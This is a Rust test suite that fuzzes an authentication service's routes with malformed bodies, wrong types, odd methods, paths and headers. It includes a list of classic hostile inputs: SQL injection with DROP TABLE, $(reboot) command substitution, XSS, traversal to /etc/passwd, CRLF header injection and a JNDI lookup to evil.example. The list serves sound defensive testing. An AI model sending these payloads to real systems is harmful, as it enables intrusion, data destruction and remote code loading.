//! Everything at every route: nothing may become a 5xx, and every status stands in the description of the routes.

use gatehouse_protocol::ErrorCode;
use http::Method;
use proptest::{prelude::*, strategy::ValueTree as _, test_runner::TestRunner};
use serde_json::{Value, json};

use crate::kit::{App, PASSWORD, Reply, app_with, login_step, registration_step};

const CHALLENGE: &str = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM";

/// A proper body for every step of every route.
fn proper() -> Vec<(&'static str, Value)> {
    vec![
        ("/login", login_step("alice", PASSWORD)),
        (
            "/login",
            json!({"step": "new_password", "flow": "f", "password": PASSWORD, "keep": false, "challenge": CHALLENGE}),
        ),
        ("/login", json!({"step": "resume", "challenge": CHALLENGE})),
        (
            "/login",
            json!({"step": "totp", "flow": "f", "code": "123456", "keep": false, "challenge": CHALLENGE}),
        ),
        (
            "/login",
            json!({"step": "recovery_code", "flow": "f", "code": "c", "keep": false, "challenge": CHALLENGE}),
        ),
        ("/login", json!({"step": "step_up"})),
        ("/login", json!({"step": "reauthenticate", "password": PASSWORD})),
        ("/enrollment", json!({"step": "begin_totp", "flow": "f"})),
        ("/enrollment", json!({"step": "confirm_totp", "flow": "f", "code": "123456", "keep": false})),
        ("/enrollment", json!({"step": "recovery_codes"})),
        ("/account", json!({"step": "overview"})),
        ("/account", json!({"step": "remove_factor", "id": "i"})),
        ("/account", json!({"step": "rename_factor", "id": "i", "name": "n"})),
        ("/account", json!({"step": "end_session", "id": "i"})),
        ("/account", json!({"step": "end_other_sessions"})),
        ("/account", json!({"step": "export"})),
        ("/account", json!({"step": "delete"})),
        ("/registration", json!({"step": "open", "token": "t"})),
        ("/registration", registration_step("bob", "bob@example.org", PASSWORD)),
        ("/verification", json!({"step": "confirm", "token": "t"})),
        ("/verification", json!({"step": "resend", "email": "bob@example.org"})),
        ("/recovery", json!({"step": "request", "identifier": "alice"})),
        ("/recovery", json!({"step": "open", "token": "t"})),
        ("/recovery", json!({"step": "reset", "token": "t", "password": PASSWORD})),
        ("/password", json!({"current": PASSWORD, "new": "copper.lantern.41.reef"})),
        ("/password/strength", json!({"password": PASSWORD, "names": ["alice"]})),
    ]
}

/// Texts that did harm somewhere before.
const PAYLOADS: [&str; 16] = [
    "' OR '1'='1' --",
    "'; DROP TABLE identity; --",
    "\" OR \"\"=\"",
    "%",
    "_lice",
    "al%",
    "*",
    "{\"$ne\": null}",
    "$(reboot)",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\u{202e}\u{200f}",
    "\r\nSet-Cookie: a=b",
    "\u{1b}[2J",
    "${jndi:ldap://evil.example/a}",
];

/// Limits out of the way: this is about input.
async fn app() -> App {
    let app = app_with(|settings| {
        let limits = &mut settings.limits;
        limits.account_attempts = 1_000_000;
        limits.address_attempts = 1_000_000;
        limits.global_attempts = 1_000_000;
        limits.registrations_per_address = 1_000_000;
        limits.registrations_global = 1_000_000;
        limits.questions_per_address = 1_000_000;
    })
    .await;
    app.add("alice").await;
    app
}

#[track_caller]
fn declared(reply: &Reply, what: &str) {
    let status = reply.status.as_u16();
    assert!(status < 500, "{what}: {}", reply.text());
    let known = matches!(status, 200 | 308) || ErrorCode::ALL.iter().any(|code| code.status() == status);
    assert!(known, "{what}: undeclared {status}");
    if status >= 400 && !reply.body.is_empty() {
        let code: ErrorCode = serde_json::from_value(reply.json()["code"].clone()).unwrap();
        assert_eq!(code.status(), status, "{what}");
    }
}

/// SQL, LIKE, JSON and markup in every field of every step: no effect, and never a 500.
#[tokio::test]
async fn payloads_in_every_field() {
    let app = app().await;
    for (path, body) in proper() {
        for name in body.as_object().unwrap().keys() {
            for payload in PAYLOADS {
                let mut attack = body.clone();
                attack[name] = if body[name].is_array() { json!([payload]) } else { json!(payload) };
                let reply = app.post(path, &attack).send().await;
                declared(&reply, &format!("{path} {name}={payload:?}"));
                assert_eq!(reply.session(), None, "{path} {name}={payload:?} signed somebody in");
            }
        }
    }
    app.login("alice").await.expect_complete();
}

/// Every JSON type in every field, fields missing and fields more.
#[tokio::test]
async fn wrong_types_missing_and_extra_fields() {
    let app = app().await;
    let values = [
        json!(null),
        json!(true),
        json!(0),
        json!(-1),
        json!(1e300),
        json!(""),
        json!("x"),
        json!([]),
        json!([1]),
        json!({}),
        json!({"a": {"b": []}}),
        json!("x".repeat(5000)),
    ];
    for (path, body) in proper() {
        for name in body.as_object().unwrap().keys() {
            for value in &values {
                let mut attack = body.clone();
                attack[name] = value.clone();
                declared(&app.post(path, &attack).send().await, &format!("{path} {name}={value}"));
            }
            let mut without = body.clone();
            without.as_object_mut().unwrap().remove(name);
            declared(&app.post(path, &without).send().await, &format!("{path} without {name}"));
        }
        for extra in ["roles", "role", "id", "email_verified", "__proto__", "Step"] {
            let mut more = body.clone();
            more[extra] = json!(["admin"]);
            app.post(path, &more).send().await.expect_problem(400, "malformed");
        }
    }
}

/// Bodies of a megabyte, cut bodies, bodies of bytes.
#[tokio::test]
async fn large_cut_and_random_bodies() {
    let app = app().await;
    for (path, body) in proper() {
        let text = body.to_string();
        let call = |bytes: Vec<u8>| app.post(path, &json!(null)).body(bytes).send();
        call(vec![b' '; 1_000_000]).await.expect_problem(413, "too_large");
        call([text.as_bytes(), &vec![b' '; 1_000_000]].concat()).await.expect_problem(413, "too_large");
        call(b"[".repeat(16_000)).await.expect_problem(400, "malformed");
        for end in [1, text.len() / 2, text.len() - 1] {
            call(text.as_bytes()[..end].to_vec()).await.expect_problem(400, "malformed");
        }
    }
    let mut runner = TestRunner::deterministic();
    let bodies = proptest::collection::vec(any::<u8>(), 0..200);
    for _ in 0..300 {
        let body = bodies.new_tree(&mut runner).unwrap().current();
        for path in ["/login", "/registration", "/password/strength"] {
            declared(&app.post(path, &json!(null)).body(body.clone()).send().await, path);
        }
    }
}

/// Every method at every path, and at paths that are none.
#[tokio::test]
async fn every_method_at_every_path() {
    let app = app().await;
    let paths = [
        "",
        "/",
        "//",
        "/login",
        "/login/",
        "/login//",
        "/Login",
        "/login%2f",
        "/login;x",
        "/logout",
        "/registration",
        "/verification",
        "/recovery",
        "/password",
        "/password/",
        "/password/strength",
        "/password/x",
        "/session",
        "/config",
        "/health",
        "/assets",
        "/assets/",
        "/assets/logo",
        "/assets/none.js",
        "/metrics",
        "/openapi.json",
        "/../x",
        "/./login",
        "/%2e%2e/x",
        "/%00",
        "/%ff",
        "/é",
        "/?a=b",
        "/login?x=%ff",
        "/none",
    ];
    let methods =
        ["GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "X"];
    for path in paths {
        for method in methods {
            let uri = format!("/_gatehouse{path}");
            if uri.parse::<http::Uri>().is_err() {
                continue;
            }
            let call =
                app.post("", &json!({})).uri(&uri).method(Method::from_bytes(method.as_bytes()).unwrap());
            let reply = call.send().await;
            declared(&reply, &format!("{method} {path}"));
            assert!(
                reply.header("cache-control").is_some_and(|value| value.contains("no-store")),
                "{method} {path}"
            );
        }
    }
}

/// Outside of the mount nothing of ours answers but with a 404; metrics and the description are not on the app's origin.
#[tokio::test]
async fn paths_outside_of_the_mount() {
    let app = app().await;
    for uri in ["/", "/login", "/metrics", "/openapi.json", "/_gatehousex", "/x/_gatehouse/health", "*"] {
        app.get("").uri(uri).send().await.expect_problem(404, "not_found");
    }
}

/// Headers of every kind.
#[tokio::test]
async fn odd_headers() {
    let app = app().await;
    let names = [
        "cookie",
        "user-agent",
        "accept-language",
        "accept-encoding",
        "content-type",
        "x-forwarded-for",
        "forwarded",
        "sec-fetch-site",
        "origin",
        "host",
        "range",
        "if-none-match",
        "expect",
        "content-length",
        "transfer-encoding",
        "content-encoding",
        "x-gatehouse-handle",
    ];
    let values = ["", "\u{e9}\u{ff}", ",,,;;;===", "\"", "0", "-1", "*", "x".repeat(9000).leak()];
    for name in names {
        for value in values {
            for path in ["/session", "/assets/none.js"] {
                declared(&app.get(path).header(name, value).send().await, &format!("{name}: {value}"));
            }
            let call = app.post("/login", &login_step("alice", "wrong-password")).header(name, value);
            declared(&call.send().await, &format!("{name}: {value}"));
        }
    }
}
